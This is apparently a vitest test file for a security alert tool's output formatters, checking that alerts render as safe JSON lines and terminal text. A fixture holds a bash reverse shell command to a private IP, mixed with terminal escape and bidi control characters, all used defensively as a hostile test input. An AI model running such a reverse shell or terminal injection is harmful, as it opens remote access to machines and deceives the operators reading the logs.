import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { toJsonLine } from '../../src/outputs/json-line.js';
import { formatAlertPretty, formatEventPretty, formatPretty } from '../../src/outputs/pretty-format.js';
import { severityOf } from '../../src/outputs/severity.js';
import { StdoutSink, useColor } from '../../src/outputs/stdout-sink.js';
import { terminalSafe } from '../../src/outputs/terminal-text.js';

const HOSTILE_CMD = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\r\u001b[2K\u001b[32mOK harmless\u001b[0m\n\u009b2J\u202etxt.exe\u0007';

const alert = {
  '@timestamp': '2025-03-01T10:00:00.000Z',
  event: { kind: 'alert', severity: 'high', risk_score: 73 },
  rule: { name: 'Potential Reverse Shell via Background Process' },
  user: { name: 'root' },
  process: { pid: 4242, name: 'bash', command_line: HOSTILE_CMD, parent: { pid: 4240, name: 'setsid' } },
};

const execEvent = {
  '@timestamp': '2025-03-01T10:00:00.001Z',
  event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
  user: { name: 'alice' },
  process: { pid: 7, name: 'ls', args: ['ls', '-la', '/tmp'], parent: { pid: 6, name: 'bash' } },
};

function capture(): { stream: PassThrough; text: () => string } {
  const stream = new PassThrough();
  let text = '';
  stream.setEncoding('utf8');
  stream.on('data', (chunk: string) => (text += chunk));
  return { stream, text: () => text };
}

/** Characters a terminal would act on: C0 (but not the final newline), DEL, C1, bidi controls. */
const TERMINAL_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('toJsonLine', () => {
  it('keeps hostile strings on one line of valid JSON that round-trips', () => {
    const doc = { cmd: HOSTILE_CMD, lone: '\ud800', sep: '\u2028\u2029', big: 12n };
    const line = toJsonLine(doc);
    expect(line).not.toMatch(/[\n\r\u2028\u2029\u007f-\u009f\u001b]/);
    expect(JSON.parse(line)).toEqual({ ...doc, big: '12' });
  });
});

describe('terminalSafe', () => {
  it('shows control characters and escape sequences as visible text', () => {
    expect(terminalSafe('a\u001b[31mb\r\n\t\u009b\u202ec')).toBe('a\\x1b[31mb\\r\\n\\t\\x9b\\u{202e}c');
    expect(terminalSafe('plain ünïcode 🐚 text')).toBe('plain ünïcode 🐚 text');
    expect(terminalSafe('x'.repeat(10), 4)).toBe('xxxx…(+6 chars)');
  });
});

describe('pretty formatting', () => {
  it('renders an alert as one line with time, severity, rule, process, parent, user and command', () => {
    const line = formatAlertPretty(alert);
    expect(line).toBe(
      '2025-03-01T10:00:00.000Z HIGH     Potential Reverse Shell via Background Process  process=bash[4242] parent=setsid[4240] user=root ' +
        'cmd: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\\r\\x1b[2K\\x1b[32mOK harmless\\x1b[0m\\n\\x9b2J\\u{202e}txt.exe\\x07',
    );
  });

  it('colours only when asked, and the hostile command cannot add its own codes', () => {
    const coloured = formatAlertPretty(alert, { color: true });
    expect(coloured).toContain('\u001b[1;31mHIGH');
    // Every ESC in the output starts one of our own SGR sequences.
    expect(coloured.replace(/\u001b\[[0-9;]*m/g, '')).toBe(formatAlertPretty(alert));
  });

  it('renders a process event with its action and arguments', () => {
    expect(formatEventPretty(execEvent)).toBe('2025-03-01T10:00:00.001Z exec     process=ls[7] parent=bash[6] user=alice cmd: ls -la /tmp');
    expect(formatPretty(execEvent)).toBe(formatEventPretty(execEvent));
    expect(formatPretty(alert)).toBe(formatAlertPretty(alert));
  });

  it('reads severity names, Elastic risk numbers and risk_score', () => {
    expect(severityOf({ event: { severity: 'Critical' } })).toBe('critical');
    expect(severityOf({ event: { severity: 21 } })).toBe('low');
    expect(severityOf({ event: { severity: 47 } })).toBe('medium');
    expect(severityOf({ event: { kind: 'alert', risk_score: 99 } })).toBe('critical');
    expect(severityOf({ 'event.severity': 'high' })).toBe('high');
    expect(severityOf({ event: { kind: 'alert' } })).toBe('medium');
    expect(severityOf({ event: { kind: 'event' } })).toBe('info');
  });
});

describe('useColor', () => {
  const tty = Object.assign(new PassThrough(), { isTTY: true });
  const pipe = new PassThrough();
  it('follows the TTY, NO_COLOR and FORCE_COLOR in auto mode', () => {
    expect(useColor('auto', tty, {})).toBe(true);
    expect(useColor('auto', pipe, {})).toBe(false);
    expect(useColor('auto', tty, { NO_COLOR: '1' })).toBe(false);
    expect(useColor('auto', pipe, { FORCE_COLOR: '1' })).toBe(true);
    expect(useColor('always', pipe, {})).toBe(true);
    expect(useColor('never', tty, { FORCE_COLOR: '1' })).toBe(false);
  });
});

describe('StdoutSink', () => {
  it('writes NDJSON by default, one parsable line per document', async () => {
    const out = capture();
    const sink = new StdoutSink({ stream: out.stream });
    await sink.start();
    sink.write(alert);
    sink.write(execEvent);
    await sink.close();
    const lines = out.text().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines.slice(0, 2).map((line) => JSON.parse(line))).toEqual([alert, execEvent]);
    expect(sink.stats()).toMatchObject({ name: 'stdout', written: 2, dropped: 0 });
  });

  it('writes pretty lines without colour to a pipe, with nothing a terminal would act on', async () => {
    const out = capture();
    const sink = new StdoutSink({ stream: out.stream, format: 'pretty', env: {} });
    await sink.start();
    sink.write(alert);
    sink.write(execEvent);
    await sink.close();
    const text = out.text();
    expect(text).toBe(`${formatAlertPretty(alert)}\n${formatEventPretty(execEvent)}\n`);
    expect(text).not.toMatch(TERMINAL_CONTROLS);
  });
});
